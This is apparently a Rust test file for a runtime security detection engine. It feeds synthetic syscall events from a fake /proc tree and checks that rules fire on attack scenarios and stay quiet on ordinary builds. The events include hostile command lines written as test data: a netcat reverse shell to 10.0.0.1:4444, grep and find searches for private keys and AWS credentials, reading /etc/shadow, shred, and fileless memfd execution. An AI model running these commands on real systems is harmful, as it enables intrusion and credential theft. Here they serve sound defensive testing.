//! The engine on synthetic events: a fake /proc tree seeds the process table, every field of
//! the table and every operator is checked on events, the tables follow fork/exec/exit and
//! fd events, and the default rules fire on their scenarios and stay quiet on ordinary work.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use kestrel_guard::event::{Event, ExecInfo, ProcEvent, SockAddr};
use kestrel_guard::{Alert, Engine, Ruleset};

struct Tmp(PathBuf);

impl Tmp {
    fn new(tag: &str) -> Tmp {
        let p = std::env::temp_dir().join(format!("kestrel-guard-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        std::fs::create_dir_all(&p).expect("mkdir");
        Tmp(p)
    }
}

impl Drop for Tmp {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

const CID: &str = "3f4e5d6c7b8a9f0e1d2c3b4a5f6e7d8c9b0a1f2e3d4c5b6a7f8e9d0c1b2a3f4e";

#[allow(clippy::too_many_arguments)]
fn fake_proc(
    root: &Path,
    pid: u32,
    ppid: u32,
    comm: &str,
    argv: &[&str],
    exe: &str,
    cwd: &str,
    uid: u32,
    cgroup: &str,
) {
    let d = root.join("proc").join(pid.to_string());
    std::fs::create_dir_all(&d).expect("mkdir");
    std::fs::write(
        d.join("stat"),
        format!("{pid} ({comm}) S {ppid} {pid} 77 34816 0 0\n"),
    )
    .expect("stat");
    std::fs::write(
        d.join("cmdline"),
        argv.iter().map(|a| format!("{a}\0")).collect::<String>(),
    )
    .expect("cmdline");
    std::fs::write(
        d.join("status"),
        format!(
            "Name:\t{comm}\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\nGid:\t{uid}\t{uid}\t{uid}\t{uid}\n"
        ),
    )
    .expect("status");
    std::fs::write(
        d.join("loginuid"),
        if uid == 0 { "4294967295" } else { "1000" },
    )
    .expect("loginuid");
    std::fs::write(d.join("cgroup"), format!("12:pids:{cgroup}\n0::{cgroup}\n")).expect("cgroup");
    symlink(exe, d.join("exe")).expect("exe link");
    symlink(cwd, d.join("cwd")).expect("cwd link");
}

/// A fake root: init (1), sshd (100) → bash (200) → cat (300, in a container), and
/// /etc/passwd + /etc/group.
fn fake_root(tag: &str) -> Tmp {
    let t = Tmp::new(tag);
    let r = &t.0;
    fake_proc(r, 1, 0, "init", &["/sbin/init"], "/sbin/init", "/", 0, "/");
    fake_proc(
        r,
        100,
        1,
        "sshd",
        &["sshd:", "alice"],
        "/usr/sbin/sshd",
        "/",
        0,
        "/system.slice/ssh.service",
    );
    fake_proc(
        r,
        200,
        100,
        "bash",
        &["-bash"],
        "/usr/bin/bash",
        "/home/alice",
        1000,
        "/user.slice",
    );
    fake_proc(
        r,
        300,
        200,
        "cat",
        &["cat", "/etc/shadow"],
        "/usr/bin/cat",
        "/home/alice",
        1000,
        &format!("/docker/{CID}"),
    );
    std::fs::create_dir_all(r.join("etc")).expect("etc");
    std::fs::create_dir_all(r.join("proc/sys/kernel")).expect("sys");
    std::fs::write(r.join("proc/sys/kernel/hostname"), "testhost\n").expect("hostname");
    std::fs::write(
        r.join("etc/passwd"),
        "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    )
    .expect("passwd");
    std::fs::write(r.join("etc/group"), "root:x:0:\nalice:x:1000:\n").expect("group");
    t
}

fn rule(cond: &str, output: &str) -> Ruleset {
    let text = format!("- rule: t\n  desc: d\n  priority: warning\n  tags: [x]\n  output: \"{output}\"\n  condition: {cond}\n");
    match Ruleset::load(&[("t.yaml".into(), text)]) {
        Ok(s) => s,
        Err(d) => panic!("{cond}: {}", kestrel_guard::diag::render_all(&d)),
    }
}

fn open_ev(pid: u32, path: &str, flags: i64, res: i64) -> Event {
    Event::exit(1_700_000_000_123_456_789, pid, "openat", res)
        .int("dirfd", -100)
        .str("name", path)
        .int("flags", flags)
        .int("mode", 0)
}

fn fire(root: &Tmp, cond: &str, ev: &Event) -> bool {
    let mut e = Engine::live(rule(cond, "x"), &root.0).expect("engine");
    !e.process(ev).is_empty()
}

#[test]
fn fields_from_a_fake_proc_tree() {
    let root = fake_root("fields");
    let out = "%proc.name|%proc.exe|%proc.exepath|%proc.cmdline|%proc.args|%proc.pid|%proc.ppid|%proc.pname|%proc.pcmdline|%proc.aname[2]|%proc.aname[3]|%proc.tty|%proc.cwd|%proc.sid|%proc.is_exe_from_memfd|%user.name|%user.uid|%user.loginuid|%user.loginname|%group.name|%container.id|%fd.name|%fd.directory|%fd.filename|%fd.typechar|%fd.type|%fd.num|%fd.nameraw|%evt.type|%evt.dir|%evt.res|%evt.rawres|%evt.arg.flags|%evt.arg[1]|%evt.is_open_read|%evt.is_open_write|%proc.pexepath|%fd.sip|%k8s.ns.name";
    let mut e = Engine::live(rule("evt.type = openat", out), &root.0).expect("engine");
    assert_eq!(e.hostname, "testhost");
    assert!(e.procs.len() >= 4);
    let a = e.process(&open_ev(300, "../../etc/./shadow", 0o2000000, 3));
    assert_eq!(a.len(), 1);
    assert_eq!(
        a[0].output,
        format!("cat|cat|/usr/bin/cat|cat /etc/shadow|/etc/shadow|300|200|bash|bash|sshd|init|34816|/home/alice|77|false|alice|1000|1000|alice|alice|{}|/etc/shadow|/etc|shadow|f|file|3|../../etc/./shadow|openat|<|SUCCESS|3|O_RDONLY|O_CLOEXEC|../../etc/./shadow|true|false|/usr/bin/bash|<NA>|<NA>", &CID[..12])
    );
    let j = a[0].to_json();
    assert_eq!(j["hostname"], "testhost");
    assert_eq!(j["priority"], "Warning");
    assert_eq!(j["rule"], "t");
    assert_eq!(j["source"], "syscall");
    assert_eq!(j["tags"][0], "x");
    assert_eq!(j["time"], "2023-11-14T22:13:20.123456789Z");
    assert_eq!(j["output_fields"]["proc.pid"], 300);
    assert_eq!(j["output_fields"]["proc.name"], "cat");
    assert_eq!(j["output_fields"]["evt.is_open_read"], true);
    assert!(j["output_fields"]["fd.sip"].is_null());
    assert!(j["output_fields"]["k8s.ns.name"].is_null());
    let keys: Vec<&String> = j.as_object().expect("object").keys().collect();
    assert_eq!(
        keys,
        [
            "hostname",
            "output",
            "output_fields",
            "priority",
            "rule",
            "source",
            "tags",
            "time"
        ]
    );
    assert!(a[0]
        .to_text()
        .starts_with("2023-11-14T22:13:20.123456789Z: Warning cat|cat|"));
    // Failed opens still name the file; host processes are "host".
    let a = e.process(&open_ev(200, "/nope", 1, -2));
    assert!(
        a[0].output.contains("|host|/nope|/|nope|f|file|-2|"),
        "{}",
        a[0].output
    );
    assert!(
        a[0].output.contains("|ENOENT|-2|O_WRONLY|"),
        "{}",
        a[0].output
    );
}

#[test]
fn every_operator() {
    let root = fake_root("ops");
    let ev = open_ev(300, "/etc/shadow", 0, 3);
    let yes = [
        "proc.name = cat",
        "proc.name == cat",
        "proc.name != bash",
        "proc.pid < 301",
        "proc.pid <= 300",
        "proc.pid > 299",
        "proc.pid >= 300",
        "proc.name in (ls, cat)",
        "proc.name intersects (cat)",
        "proc.cmdline contains shadow",
        "proc.name icontains CA",
        "fd.name startswith /etc/",
        "fd.name endswith dow",
        "fd.name glob '/etc/sh*'",
        "fd.name pmatch (/etc, /usr)",
        "fd.name pmatch (/etc/shadow)",
        "fd.name exists",
        "proc.aname = sshd",
        "proc.aname[1] = bash",
        "proc.aname[0] = cat",
        "proc.apid[2] = 100",
        "evt.arg.flags = O_RDONLY",
        "evt.arg.flags = 0",
        "evt.arg[0] = AT_FDCWD",
        "evt.arg.dirfd = -100",
        "evt.res = SUCCESS",
        "evt.rawres >= 0",
        "evt.is_open_read = true",
        "user.uid = 1000",
        "not user.name = root",
        "evt.type = openat and (proc.name = x or proc.name = cat)",
        "evt.args contains 'name=/etc/shadow'",
        "proc.duration > 0",
        "thread.tid = 300",
        "evt.category = file",
        "evt.rawarg.flags = 0",
        "evt.rawarg.dirfd = -100",
        "proc.aexe[1] = -bash",
        "proc.aexepath[2] = /usr/sbin/sshd",
        "proc.acmdline[1] = bash",
        "proc.aexe = /sbin/init",
        "evt.time = 22:13:20.123456789",
        "evt.time.iso8601 startswith 2023-11-14T22",
    ];
    for c in yes {
        assert!(
            fire(&root, &format!("evt.type = openat and {c}"), &ev),
            "should match: {c}"
        );
    }
    let no = [
        "proc.name = bash",
        "proc.pid > 300",
        "proc.name in (ls)",
        "fd.name pmatch (/et)",
        "fd.sip exists",
        "fd.name glob '/etc/?'",
        "proc.aname = cat",
        "proc.aname[4] exists",
        "evt.arg.nosuch exists",
        "evt.is_open_write = true",
        "not fd.name exists",
        "fd.sip = 10.0.0.1",
    ];
    for c in no {
        assert!(
            !fire(&root, &format!("evt.type = openat and {c}"), &ev),
            "should not match: {c}"
        );
    }
}

#[test]
fn sockets_dups_and_process_lifecycle() {
    let root = fake_root("net");
    let cond = "evt.type = dup2 and fd.num = 1 and fd.type = ipv4 and fd.sip in (10.0.0.0/8) and fd.sport = 4444 and fd.l4proto = tcp \
                and fd.snet in (10.1.0.0/16) and fd.net = 10.1.2.3/32 and fd.rnet = 10.1.2.3 and not fd.cnet exists";
    let mut e = Engine::live(
        rule(cond, "%fd.name %fd.cip %fd.rip %fd.dport %fd.lport"),
        &root.0,
    )
    .expect("engine");
    assert!(e
        .process(
            &Event::exit(1, 200, "socket", 5)
                .int("domain", 2)
                .int("type", 1)
                .int("proto", 0)
        )
        .is_empty());
    e.process(
        &Event::exit(2, 200, "connect", -115)
            .int("fd", 5)
            .sock("addr", SockAddr::Inet(([10, 1, 2, 3], 4444).into())),
    );
    let a = e.process(
        &Event::exit(3, 200, "dup2", 1)
            .int("oldfd", 5)
            .int("newfd", 1),
    );
    assert_eq!(a.len(), 1);
    assert_eq!(
        a[0].output,
        "0.0.0.0:0->10.1.2.3:4444 <NA> 10.1.2.3 4444 <NA>"
    );
    // close removes, fork copies, exec drops close-on-exec, exit forgets.
    e.process(&Event::exit(4, 200, "close", 0).int("fd", 1));
    assert!(e.fds.get(200, 1).is_none());
    e.on_proc_event(&ProcEvent::Fork {
        ts_ns: 5,
        parent: 200,
        child: 201,
        thread: false,
    });
    assert_eq!(
        e.procs.get(201).map(|p| (p.comm.as_str(), p.ppid)),
        Some(("bash", 200))
    );
    assert!(e.fds.get(201, 5).is_some());
    e.process(&open_ev(201, "/tmp/x", 0o2000000, 7));
    e.on_proc_event(&ProcEvent::Exec {
        ts_ns: 6,
        pid: 201,
        info: ExecInfo {
            filename: "/usr/bin/nc".into(),
            argv: Some(vec!["nc".into(), "-e".into(), "/bin/sh".into()]),
            comm: None,
            exepath: None,
        },
    });
    let p = e.procs.get(201).expect("exec'd");
    assert_eq!(
        (
            p.comm.as_str(),
            p.exe.as_str(),
            p.args.join(" ").as_str(),
            p.start_ns
        ),
        ("nc", "nc", "-e /bin/sh", 6)
    );
    assert!(e.fds.get(201, 7).is_none(), "O_CLOEXEC fd closed by exec");
    assert!(e.fds.get(201, 5).is_some());
    e.on_proc_event(&ProcEvent::Fork {
        ts_ns: 7,
        parent: 201,
        child: 201,
        thread: true,
    });
    e.on_proc_event(&ProcEvent::Exit { ts_ns: 8, pid: 201 });
    assert!(e.procs.get(201).is_none() && e.fds.get(201, 5).is_none());
    // chdir changes where relative opens land.
    let mut e = Engine::live(rule("evt.type = openat", "%fd.name"), &root.0).expect("engine");
    e.process(&Event::exit(9, 200, "chdir", 0).str("path", "/etc"));
    assert_eq!(
        e.process(&open_ev(200, "passwd", 0, 3))[0].output,
        "/etc/passwd"
    );
    // A rule asking for evt.dir = > sees the merged exit event as its enter: no result.
    let mut e = Engine::live(
        rule(
            "evt.type = ptrace and evt.dir = >",
            "%evt.dir %evt.res %evt.arg.request",
        ),
        &root.0,
    )
    .expect("e");
    assert_eq!(
        e.process(&Event::exit(9, 200, "ptrace", 0).int("request", 16))[0].output,
        "> <NA> PTRACE_ATTACH"
    );
}

fn default_engine(root: &Tmp) -> Engine {
    let set = Ruleset::load(&[(
        "kestrel_rules.yaml".into(),
        kestrel_guard::DEFAULT_RULES.into(),
    )])
    .expect("default rules load");
    Engine::live(set, &root.0).expect("engine")
}

fn exec(e: &mut Engine, pid: u32, parent: u32, path: &str, argv: &[&str]) -> Vec<Alert> {
    e.on_proc_event(&ProcEvent::Fork {
        ts_ns: 10,
        parent,
        child: pid,
        thread: false,
    });
    e.process(
        &Event::exit(20_000_000_000, pid, "execve", 0)
            .str("filename", path)
            .strs("args", argv),
    )
}

fn rules_of(a: &[Alert]) -> Vec<&str> {
    a.iter().map(|a| a.rule.as_str()).collect()
}

#[test]
fn default_rules_fire_on_their_scenarios() {
    let root = fake_root("scen");
    let mut e = default_engine(&root);
    let a = e.process(&open_ev(300, "/etc/shadow", 0, 3));
    assert_eq!(rules_of(&a), ["Read sensitive file untrusted"]);
    assert!(
        a[0].output
            .contains("file=/etc/shadow user=alice uid=1000 process=cat"),
        "{}",
        a[0].output
    );
    assert!(!a[0].output.contains("<NA>"), "{}", a[0].output);
    assert_eq!(
        rules_of(&e.process(&open_ev(
            300,
            "/var/www/../../../etc/../etc/pam.d/../passwd",
            0,
            3
        ))),
        ["Directory traversal monitored file read"]
    );
    assert_eq!(
        rules_of(&exec(
            &mut e,
            400,
            200,
            "/bin/grep",
            &["grep", "-r", "BEGIN RSA PRIVATE", "/"]
        )),
        ["Search Private Keys or Passwords"]
    );
    assert_eq!(
        rules_of(&exec(
            &mut e,
            401,
            200,
            "/usr/bin/find",
            &[
                "find",
                "/",
                "-name",
                "credentials",
                "-path",
                "*.aws/credentials"
            ]
        )),
        ["Find AWS Credentials"]
    );
    assert_eq!(
        rules_of(&exec(
            &mut e,
            402,
            200,
            "/usr/bin/shred",
            &["shred", "-u", "x"]
        )),
        ["Remove Bulk Data from Disk"]
    );
    assert!(exec(
        &mut e,
        403,
        200,
        "/bin/dd",
        &["dd", "if=/dev/zero", "of=/tmp/f", "bs=1M"]
    )
    .is_empty());
    assert_eq!(
        rules_of(&exec(
            &mut e,
            404,
            200,
            "/dev/shm/payload",
            &["/dev/shm/payload"]
        )),
        ["Execution from /dev/shm"]
    );
    let a = exec_memfd(&root, &mut e);
    assert_eq!(rules_of(&a), ["Fileless execution via memfd_create"]);
    assert_eq!(
        rules_of(&e.process(&open_ev(200, "/var/log/syslog", 0o1001, 3))),
        ["Clear Log Activities"]
    );
    let sym = Event::exit(30, 200, "symlinkat", 0)
        .str("target", "/etc/shadow")
        .int("linkdirfd", -100)
        .str("linkpath", "/tmp/s");
    assert_eq!(
        rules_of(&e.process(&sym)),
        ["Create Symlink Over Sensitive Files"]
    );
    let link = Event::exit(30, 200, "linkat", 0)
        .int("olddir", -100)
        .str("oldpath", "/etc/shadow")
        .int("newdir", -100)
        .str("newpath", "/tmp/h")
        .int("flags", 0);
    assert_eq!(
        rules_of(&e.process(&link)),
        ["Create Hardlink Over Sensitive Files"]
    );
    assert_eq!(
        rules_of(
            &e.process(
                &Event::exit(31, 200, "ptrace", 0)
                    .int("request", 16)
                    .int("pid", 1)
            )
        ),
        ["PTRACE attached to process"]
    );
    assert_eq!(
        rules_of(&e.process(&Event::exit(31, 200, "ptrace", 0).int("request", 0))),
        ["PTRACE anti-debug attempt"]
    );
    assert_eq!(
        rules_of(
            &e.process(
                &Event::exit(32, 200, "socket", 3)
                    .int("domain", 17)
                    .int("type", 3)
                    .int("proto", 768)
            )
        ),
        ["Packet socket created on host"]
    );
    assert_eq!(
        rules_of(
            &e.process(
                &Event::exit(32, 300, "socket", 3)
                    .int("domain", 17)
                    .int("type", 3)
                    .int("proto", 768)
            )
        ),
        ["Packet socket created in container"]
    );
    assert_eq!(
        rules_of(
            &e.process(
                &Event::exit(33, 200, "finit_module", -9)
                    .int("fd", 9)
                    .str("uargs", "")
                    .int("flags", 0)
            )
        ),
        ["Linux Kernel Module Injection Detected"]
    );
    // ssh to port 2222 from a host process, through the fd table.
    exec(
        &mut e,
        500,
        200,
        "/usr/bin/ssh",
        &["ssh", "-p", "2222", "h"],
    );
    e.process(
        &Event::exit(34, 500, "socket", 3)
            .int("domain", 2)
            .int("type", 1)
            .int("proto", 6),
    );
    let c = Event::exit(35, 500, "connect", 0)
        .int("fd", 3)
        .sock("addr", SockAddr::Inet(([10, 9, 0, 2], 2222).into()));
    assert_eq!(
        rules_of(&e.process(&c)),
        ["Disallowed SSH Connection Non Standard Port"]
    );
    // A shell from a web server; netcat -e and a socket on stdout in a container.
    exec(&mut e, 600, 1, "/usr/sbin/nginx", &["nginx"]);
    assert_eq!(
        rules_of(&exec(&mut e, 601, 600, "/bin/sh", &["sh", "-c", "id"])),
        ["Run shell untrusted"]
    );
    assert_eq!(
        rules_of(&exec(
            &mut e,
            700,
            300,
            "/usr/bin/nc",
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]
        )),
        ["Netcat Remote Code Execution in Container"]
    );
    e.process(
        &Event::exit(36, 700, "socket", 3)
            .int("domain", 2)
            .int("type", 1)
            .int("proto", 0),
    );
    assert_eq!(
        rules_of(
            &e.process(
                &Event::exit(37, 700, "dup2", 1)
                    .int("oldfd", 3)
                    .int("newfd", 1)
            )
        ),
        ["Redirect STDOUT/STDIN to Network Connection in Container"]
    );
    // A system account through sshd.
    fake_proc(
        &root.0,
        800,
        100,
        "bash",
        &["bash"],
        "/usr/bin/bash",
        "/",
        33,
        "/",
    );
    std::fs::write(
        root.0.join("etc/passwd"),
        "root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/bin/sh\n",
    )
    .expect("passwd");
    let mut e = default_engine(&root);
    assert_eq!(
        rules_of(&exec(&mut e, 801, 800, "/bin/ls", &["ls"])),
        ["System user interactive"]
    );
    // A server reading /etc/shadow long after it started.
    exec(&mut e, 900, 1, "/usr/sbin/nginx", &["nginx"]);
    assert!(e
        .process(&open_ev(900, "/etc/shadow", 0, 3))
        .iter()
        .any(|a| a.rule == "Read sensitive file trusted after startup"));
}

/// Exec of a memfd: /proc/PID/exe reads "/memfd:NAME (deleted)".
fn exec_memfd(root: &Tmp, e: &mut Engine) -> Vec<Alert> {
    fake_proc(
        &root.0,
        450,
        200,
        "3",
        &["x"],
        "/memfd:payload (deleted)",
        "/",
        1000,
        "/",
    );
    exec(e, 450, 200, "/proc/self/fd/3", &["x"])
}

#[test]
fn default_rules_are_quiet_on_ordinary_work() {
    let root = fake_root("quiet");
    let mut e = default_engine(&root);
    let mut alerts = Vec::new();
    // A build: make → sh → cc → ld, reading headers, writing objects; ls -R; python's
    // http.server answering curl on loopback; dd to a file.
    alerts.extend(exec(&mut e, 1000, 200, "/usr/bin/make", &["make", "-j2"]));
    alerts.extend(exec(
        &mut e,
        1001,
        1000,
        "/bin/sh",
        &["sh", "-c", "cc -c a.c"],
    ));
    alerts.extend(exec(
        &mut e,
        1002,
        1001,
        "/usr/bin/cc",
        &["cc", "-c", "a.c"],
    ));
    for p in [
        "/usr/include/stdio.h",
        "a.c",
        "/etc/ld.so.cache",
        "/etc/passwd",
        "/proc/self/status",
    ] {
        alerts.extend(e.process(&open_ev(1002, p, 0o2000000, 4)));
    }
    alerts.extend(e.process(&open_ev(1002, "a.o", 0o1101, 5)));
    alerts.extend(e.process(&open_ev(1002, "/tmp/build.log", 0o1101, 6)));
    alerts.extend(exec(&mut e, 1003, 200, "/bin/ls", &["ls", "-R", "/usr"]));
    for p in ["/usr", "/usr/bin", "/usr/lib"] {
        alerts.extend(e.process(&open_ev(1003, p, 0o2200000, 3)));
    }
    alerts.extend(exec(
        &mut e,
        1004,
        200,
        "/usr/bin/python3",
        &["python3", "-m", "http.server", "8000"],
    ));
    alerts.extend(
        e.process(
            &Event::exit(40, 1004, "socket", 3)
                .int("domain", 2)
                .int("type", 1)
                .int("proto", 0),
        ),
    );
    alerts.extend(
        e.process(
            &Event::exit(41, 1004, "bind", 0)
                .int("fd", 3)
                .sock("addr", SockAddr::Inet(([0, 0, 0, 0], 8000).into())),
        ),
    );
    alerts.extend(
        e.process(
            &Event::exit(42, 1004, "accept4", 4)
                .int("fd", 3)
                .sock("addr", SockAddr::Inet(([127, 0, 0, 1], 50000).into()))
                .int("flags", 0),
        ),
    );
    alerts.extend(exec(
        &mut e,
        1005,
        200,
        "/usr/bin/curl",
        &["curl", "http://127.0.0.1:8000/"],
    ));
    alerts.extend(
        e.process(
            &Event::exit(43, 1005, "socket", 3)
                .int("domain", 2)
                .int("type", 1)
                .int("proto", 6),
        ),
    );
    alerts.extend(
        e.process(
            &Event::exit(44, 1005, "connect", -115)
                .int("fd", 3)
                .sock("addr", SockAddr::Inet(([127, 0, 0, 1], 8000).into())),
        ),
    );
    alerts.extend(
        e.process(
            &Event::exit(45, 1005, "dup2", 1)
                .int("oldfd", 3)
                .int("newfd", 1),
        ),
    );
    alerts.extend(exec(
        &mut e,
        1006,
        200,
        "/bin/dd",
        &["dd", "if=/dev/zero", "of=/tmp/x", "bs=1M", "count=10"],
    ));
    alerts.extend(exec(
        &mut e,
        1007,
        200,
        "/bin/grep",
        &["grep", "-r", "TODO", "src"],
    ));
    // npm under node starting sh; dpkg truncating its own log.
    alerts.extend(exec(
        &mut e,
        1008,
        200,
        "/usr/bin/node",
        &["node", "/usr/bin/npm", "run", "build"],
    ));
    alerts.extend(exec(&mut e, 1009, 1008, "/bin/sh", &["sh", "-c", "tsc"]));
    alerts.extend(exec(
        &mut e,
        1010,
        200,
        "/usr/bin/dpkg",
        &["dpkg", "-i", "x.deb"],
    ));
    alerts.extend(e.process(&open_ev(1010, "/var/log/dpkg.log", 0o1101, 3)));
    alerts.extend(
        e.process(
            &Event::exit(46, 200, "unlinkat", 0)
                .int("dirfd", -100)
                .str("name", "a.o")
                .int("flags", 0),
        ),
    );
    assert!(
        alerts.is_empty(),
        "{:#?}",
        alerts
            .iter()
            .map(|a| (&a.rule, &a.output))
            .collect::<Vec<_>>()
    );
}

/// The kernel filters never drop an event a rule alerts on: for every alert of the scenarios,
/// the rule's filter for that syscall passes the event as the kernel would see it.
#[test]
fn kernel_filters_pass_every_alerted_event() {
    use kestrel_guard::analysis::KInput;
    use kestrel_guard::ArgValue;
    let root = fake_root("kfilter");
    let mut e = default_engine(&root);
    exec(&mut e, 600, 1, "/usr/sbin/nginx", &["nginx"]);
    let events = vec![
        open_ev(300, "/etc/shadow", 0, 3),
        open_ev(300, "//etc/./shadow", 0, 3),
        open_ev(300, "/var/www/../../../etc/../etc/pam.d/../passwd", 0, 3),
        open_ev(200, "/var/log/syslog", 0o1001, 3),
        open_ev(600, "/etc/pam.d/sshd", 0, 3),
        Event::exit(31, 200, "ptrace", 0)
            .int("request", 16)
            .int("pid", 1),
        Event::exit(31, 200, "ptrace", 0).int("request", 0),
        Event::exit(32, 300, "socket", 3)
            .int("domain", 17)
            .int("type", 3)
            .int("proto", 768),
        Event::exit(33, 200, "finit_module", -9)
            .int("fd", 9)
            .str("uargs", "")
            .int("flags", 0),
        Event::exit(30, 200, "symlinkat", 0)
            .str("target", "/etc/shadow")
            .int("linkdirfd", -100)
            .str("linkpath", "/tmp/s"),
    ];
    let mut checked = 0;
    for ev in &events {
        let comm = e
            .procs
            .get(ev.pid)
            .map(|p| p.comm.clone())
            .unwrap_or_default();
        let uid = e.procs.get(ev.pid).map_or(0, |p| i64::from(p.uid));
        let alerts = e.process(ev);
        assert!(!alerts.is_empty(), "{ev:?} raised nothing");
        let ints: Vec<(&str, i64)> = ev
            .args
            .iter()
            .filter_map(|(n, v)| match v {
                ArgValue::Int(i) => Some((n.as_str(), *i)),
                _ => None,
            })
            .collect();
        let strs: Vec<(&str, &str)> = ev
            .args
            .iter()
            .filter_map(|(n, v)| match v {
                ArgValue::Str(s) => Some((n.as_str(), s.as_str())),
                _ => None,
            })
            .collect();
        let input = KInput {
            syscall: &ev.syscall,
            comm: &comm,
            uid,
            res: ev.res.unwrap_or(0),
            ints,
            strs,
        };
        for a in &alerts {
            let rule = e
                .ruleset
                .rules
                .iter()
                .find(|r| r.name == a.rule)
                .expect("rule");
            let pred = rule.kernel.for_syscall(&ev.syscall);
            assert!(
                pred.eval(&input),
                "kernel filter of '{}' drops {ev:?}: {pred:?}",
                rule.name
            );
            checked += 1;
        }
    }
    assert!(checked >= 10);
    // And it does drop ordinary work: a read of a library by cat.
    let rule = e
        .ruleset
        .rules
        .iter()
        .find(|r| r.name == "Read sensitive file untrusted")
        .expect("rule");
    let input = KInput {
        syscall: "openat",
        comm: "cat",
        uid: 0,
        res: 3,
        ints: vec![("flags", 0)],
        strs: vec![("name", "/usr/lib/libc.so.6")],
    };
    assert!(!rule.kernel.for_syscall("openat").eval(&input));
}
